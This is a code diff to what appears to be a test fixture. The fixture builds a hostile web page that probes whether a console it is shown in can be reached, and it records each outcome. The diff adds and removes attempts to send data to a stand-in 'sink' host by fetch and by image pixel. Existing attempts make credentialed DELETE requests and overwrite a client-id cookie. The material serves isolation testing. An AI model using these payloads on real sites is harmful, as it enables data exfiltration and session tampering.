@@ -1,4 +1,4 @@
-/** A page that tries everything to reach the console it is shown in, and tells the sink, and whoever looks at it, what came of each attempt. */
+/** A page that tries everything to reach the console it is shown in, and says what came of each attempt. */
 export function hostilePage(sink: string, conversation: string): string {
   return `<!doctype html>
 <title>Free bread</title>
@@ -55,6 +55,13 @@ const attempts = {
   frameApi: () => frame(api),
   frameConsole: () => frame('/'),
   worker: () => navigator.serviceWorker.register('script.js').then(() => 'registered'),
+  tellSink: () => fetch('${sink}/outcomes', { method: 'POST', body: 'all of it' }).then(read),
+  tellSinkByImage: () => new Promise((resolve, reject) => {
+    const image = new Image()
+    image.onload = () => resolve('loaded')
+    image.onerror = reject
+    image.src = '${sink}/pixel'
+  }),
   remove: () => fetch(one, { method: 'DELETE', credentials: 'include' }).then(read),
   setCookie: () => { document.cookie = 'okc_client_id=thief; path=/'; return document.cookie },
   popup: () => { const popup = open('/'); if (!popup) throw new Error('no popup'); return popup.document.body.innerHTML },
@@ -73,6 +80,5 @@ for (const [name, attempt] of Object.entries(attempts)) {
   }
 }
 document.querySelector('output').textContent = JSON.stringify(outcomes)
-await fetch('${sink}/outcomes', { method: 'POST', body: JSON.stringify(outcomes) })
 </script>`.replace('<script>', '<script type="module">')
 }
